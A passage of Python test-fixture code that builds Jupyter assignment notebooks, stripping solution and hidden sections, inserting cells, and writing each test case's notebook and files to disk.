        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution") and kind == "blank":
            src = re.sub(r"[ \t]*### BEGIN SOLUTION.*?### END SOLUTION[ \t]*\n?",
                         "    pass\n" if "def " in src else "", src, flags=re.S)
        src = HIDDEN.sub("", SOLUTION.sub("", src)).rstrip("\n")
        cell["source"] = src
    return nb


def assignment(case):
    return f"unit1_{case.lang}"


def notebook_bytes(case):
    from nbformat.v4 import new_code_cell

    nb = base_notebook(case.base, case.unit_of or "unit1", case.lang, case.views)
    for grade_id, src in case.cells.items():
        _cell(nb, grade_id)[1]["source"] = src
    for grade_id, src in case.before.items():
        i, _ = _cell(nb, grade_id)
        new = json.loads(json.dumps(new_code_cell(src)))
        nb["cells"].insert(i, new)
    if case.mutate:
        case.mutate(nb)
    data = json.dumps(nb, indent=1, ensure_ascii=False).encode()
    return case.raw(data) if case.raw else data


def build(root, cases=CASES, run=RUN):
    """Write every case to ROOT/<case>/<assignment>/; returns {case name: [paths]}. ``run``
    (letters, digits, dashes) replaces RUN in the code: the processes a case starts carry it in
    their command line, so that a test finds its own among other runs' on the machine."""
    root = Path(root)
    written = {}
    for case in cases:
        folder = root / case.name / assignment(case)
        folder.mkdir(parents=True, exist_ok=True)
        paths = []
        name = case.notebook_name
        if name is None:
            name = _module("unit1").UNIT.filename[case.lang]
        if name:
            path = folder / f"{name}.ipynb"
            path.write_bytes(notebook_bytes(case).replace(RUN.encode(), run.encode()))
            paths.append(path)
        for fname, data in case.files.items():
            (folder / fname).write_bytes(data)
            paths.append(folder / fname)
        written[case.name] = paths
    return written
